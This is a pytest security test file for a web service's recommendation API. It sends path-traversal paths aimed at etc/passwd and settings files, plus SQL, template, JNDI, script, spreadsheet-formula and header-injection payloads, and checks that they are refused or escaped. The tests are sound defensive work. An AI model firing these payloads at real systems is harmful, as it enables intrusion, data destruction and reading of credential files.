"""Requests that are HTTP, but mean harm by their path, kind, size or words; never a 500, and nothing is given away."""

from __future__ import annotations

import json
from urllib.parse import quote_plus

import pytest

from tests.service.operation.served import exchange, request, status_of

PATHS = [
    b"/static/../settings.py",
    b"/static/..%2f..%2fsettings.py",
    b"/static/%2e%2e/%2e%2e/settings.py",
    b"/static/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    b"/static/..\\..\\settings.py",
    b"/static/..%5c..%5csettings.py",
    b"/static/site.css%00.py",
    b"/static/%00",
    b"/static//etc/passwd",
    b"//etc/passwd",
    b"/static/%c0%ae%c0%ae/settings.py",
    b"/static/%ff%fe",
    b"/static/" + b"a" * 5_000,
    b"/static/" + b"a/" * 5_000,
    b"/v1/hubs/" + b"%00" * 50,
    b"/v1/hubs/..%2f..%2fadmin",
    b"/v1/hubs/%ed%a0%80",
    b"/v1/vocabularies/__class__",
    b"/problems/{{7*7}}",
    b"/v1/hubs?cursor=%00&limit=%ff",
    b"/?lang=%F0%9F%98%80%00",
    b"http://example.org/",
    b"*",
    b"/%",
    b"/\xc3\xa7",
]
WORDS = [
    "' OR 1=1; DROP TABLE recommendation_events; --",
    '"; SELECT pg_sleep(10); --',
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${jndi:ldap://example.org/a}",
    "%(asctime)s %s %n {0.__class__}",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "../../etc/passwd",
    "a\r\nSet-Cookie: x=y",
]
FIELDS = ["text", "place", "sectors", "technologies", "services", "client", "networks", "language", "k", "other"]
KINDS = [
    "text/plain",
    "multipart/form-data; boundary=x",
    "application/xml",
    "application/json; charset=utf-7",
    "application/json; charset=" + "x" * 1_000,
    "",
    "é",
    "application/x-www-form-urlencoded",
]


@pytest.mark.parametrize("path", PATHS, ids=[str(path[:30]) for path in PATHS])
def test_no_path_leads_out(port: int, path: bytes) -> None:
    """Nothing outside of what is served is served, and the path is not repeated."""
    response = exchange(port, b"GET " + path + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    assert status_of(response) < 500
    assert b"root:" not in response
    assert b"BaseSettings" not in response


@pytest.mark.parametrize("field", FIELDS)
def test_hostile_words_are_only_words(port: int, field: str) -> None:
    """In every field: an answer or a 422 that does not repeat them."""
    for words in WORDS:
        value = [words] if field in ("sectors", "technologies", "services", "networks") else words
        body = json.dumps({"text": "Formação em dados", field: value}).encode()
        response = exchange(port, request("/v1/recommendations", body))
        assert status_of(response) == (200 if field == "text" else 422), words
        assert field == "text" or words.encode() not in response


@pytest.mark.parametrize("words", WORDS, ids=[words[:12] for words in WORDS])
def test_hostile_words_on_the_page_are_escaped(port: int, words: str) -> None:
    """What was typed stays in the box as it was, and is neither markup nor a template."""
    body = f"text={quote_plus(words)}&place={quote_plus(words)}".encode()
    form = request("/", body).replace(b"application/json", b"application/x-www-form-urlencoded")
    response = exchange(port, form)
    assert status_of(response) < 500
    assert b"<script>alert(1)" not in response
    assert b"{{ 7" in response or "7 * 7" not in words
    assert b"\r\nSet-Cookie" not in response.split(b"\r\n\r\n")[0]


@pytest.mark.parametrize("kind", KINDS, ids=[kind[:30] or "none" for kind in KINDS])
def test_another_kind_of_body_is_refused(port: int, kind: str) -> None:
    """Only what calls itself JSON is read as JSON."""
    sent = request("/v1/recommendations", b'{"text": "abc"}').replace(b"application/json", kind.encode())
    assert status_of(exchange(port, sent)) in ((200, 415) if "json" in kind else (415,))


@pytest.mark.parametrize(
    "body",
    [b"[" * 16_000, b'{"text":' * 2_000, b'{"a":' * 2_000 + b"1" + b"}" * 2_000, b"\xff\xfe" * 4_000, b"\xed\xa0\x80"],
    ids=["brackets", "objects", "closed objects", "UTF-16", "surrogate"],
)
def test_a_body_that_is_no_use_is_a_400_or_422(port: int, body: bytes) -> None:
    """As deep as the limit of a body allows."""
    assert status_of(exchange(port, request("/v1/recommendations", body))) in (400, 422)


def test_a_hundred_thousand_brackets_are_too_many_bytes(port: int) -> None:
    """They are not even parsed."""
    assert status_of(exchange(port, request("/v1/recommendations", b"[" * 100_000))) == 413


def test_a_thousand_headers_of_one_name_are_read(port: int) -> None:
    """Within the bytes that a header may have."""
    sent = request("/health/live", b"", *["X-Request-Id: 1"] * 1_000)
    assert status_of(exchange(port, sent)) == 200
